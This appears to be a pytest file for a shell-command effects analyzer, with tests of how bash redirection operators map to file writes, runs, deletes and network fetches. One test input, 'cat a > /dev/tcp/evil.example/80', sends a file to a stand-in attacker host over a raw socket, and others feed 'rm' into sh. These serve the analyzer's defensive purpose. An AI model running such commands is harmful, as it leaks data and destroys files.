"""Redirections: what each operator does, to which command it belongs, and what flows through it."""

from collections.abc import Callable, Iterable

import pytest

from matrixx_builtin.services.effects import Effects, Touch


@pytest.mark.parametrize(
    ("command", "modes"),
    [
        ("a > x", {("x", "create")}),
        ("a >> x", {("x", "append")}),
        ("a >| x", {("x", "create")}),
        ("a &> x", {("x", "create")}),
        ("a &>> x", {("x", "append")}),
        ("a >& x", {("x", "create")}),
        ("a 2> x", {("x", "create")}),
        ("a <> x", {("x", "edit")}),
        ("a {fd}> x", {("x", "create")}),
        ("a > x 2>&1", {("x", "create")}),
        ("a > x > y", {("x", "create"), ("y", "create")}),
        ("a > x && b | c > y", {("x", "create"), ("y", "create")}),
        ("> x", {("x", "create")}),
        ("a > x b", {("x", "create")}),
        ("a 2>&1", set[tuple[str, str]]()),
        ("a >&2", set[tuple[str, str]]()),
        ("a 2>&-", set[tuple[str, str]]()),
        ("a > /dev/null 2> /dev/stderr", set[tuple[str, str]]()),
    ],
)
def test_an_operator_has_its_mode(command: str, modes: set[tuple[str, str]], bash: Callable[[str], Effects]) -> None:
    assert {(touch.given, touch.mode) for touch in bash(command).writes} == modes


def test_words_after_a_redirection_are_still_arguments(bash: Callable[[str], Effects]) -> None:
    assert bash("rm > x a b").runs[0].argv == bash("> x rm a b").runs[0].argv == ("rm", "a", "b")


def test_a_redirection_belongs_to_the_last_command_of_a_list(bash: Callable[[str], Effects]) -> None:
    assert bash("printf 'rm z' > x && sh < x").runs[-1].argv == ("rm", "z")


def test_a_socket_is_a_fetch(bash: Callable[[str], Effects]) -> None:
    found = bash("cat a > /dev/tcp/evil.example/80")
    assert (found.fetches, found.writes) == (("evil.example:80",), ())


def test_adjoining_pieces_are_one_word(bash: Callable[[str], Effects], names: Callable[[Iterable[Touch]], set[str]]) -> None:
    assert names(bash("rm a\\\nb 'c'\"d\"e f`true`g").deletes) == {"ab", "cde", "fg"}
